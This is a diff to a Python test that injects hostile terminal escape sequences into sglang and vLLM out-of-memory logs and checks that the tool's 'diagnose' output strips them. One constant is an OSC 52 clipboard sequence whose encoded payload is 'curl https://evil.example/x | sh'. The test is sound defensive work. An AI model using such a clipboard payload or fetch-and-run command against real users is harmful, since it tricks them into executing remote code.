@@ -17,12 +17,15 @@ import sqlite3
 import subprocess
 from pathlib import Path
 
+import pytest
+
 from cockpit.core.state import Crash
 from cockpit.supervisor.api import LogLine
 from tests.reliability.helpers import PY, make_env
 
 DATA = Path(__file__).resolve().parents[1] / "data"
 OOM_LOG = DATA / "sglang-0.5.9-kimi-0.93-prefill-oom.log"
+VLLM_OOM_LOG = DATA / "vllm-0.33.0-qwen32b-tp2-0.97-prefill-oom.log"
 
 # What another user (or a request echoed in an error) can put into the server log.
 CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"  # "curl https://evil.example/x | sh"
@@ -35,16 +38,19 @@ SEQUENCES = (CLIPBOARD, TITLE, LINK, RESET, DCS, C1)
 HOSTILE = "".join(SEQUENCES)
 
 
-def hostile_log(tmp_path: Path) -> Path:
-    lines = [ln + "\n" for ln in OOM_LOG.read_bytes().decode().split("\n")[:-1]]  # tqdm's \r kept
+def hostile_log(tmp_path: Path, source: Path = OOM_LOG) -> Path:
+    """`source` with the sequences in its OOM line and in one other error line (tqdm's \r kept)."""
+    lines = [ln + "\n" for ln in source.read_bytes().decode().split("\n")[:-1]]
+    other = False
     for i, line in enumerate(lines):
-        if line.startswith("torch.OutOfMemoryError"):
+        if "CUDA out of memory." in line:
             lines[i] = line.replace("CUDA out of memory.", "CUDA out of memory." + HOSTILE, 1)
-        elif "Scheduler hit an exception" in line:
+        elif not other and ("Scheduler hit an exception" in line or " ERROR " in line):
             lines[i] = line.rstrip("\n") + " " + HOSTILE + "\n"
-    path = tmp_path / "hostile-oom.log"
+            other = True
+    path = tmp_path / f"hostile-{source.name}"
     path.write_bytes("".join(lines).encode())
-    assert path.read_text().count("\x1b]52;") == 2
+    assert path.read_text().count("\x1b]52;") >= 2
     return path
 
 
@@ -77,9 +83,10 @@ def assert_clean(text: str, where: str) -> None:
     assert not bad, f"{where}: control characters reached the terminal: {bad}\n{text[-2000:]!r}"
 
 
-def test_diagnose_prints_no_escape_sequence(tmp_path: Path, ledger) -> None:
+@pytest.mark.parametrize("source", [OOM_LOG, VLLM_OOM_LOG], ids=["sglang", "vllm"])
+def test_diagnose_prints_no_escape_sequence(source: Path, tmp_path: Path, ledger) -> None:
     env = make_env(tmp_path)
-    log = hostile_log(tmp_path)
+    log = hostile_log(tmp_path, source)
     for args in (("diagnose", str(log)), ("diagnose", "--json", str(log))):
         done = env.cockpit(*args)
         ledger.tried("terminal", len(SEQUENCES))
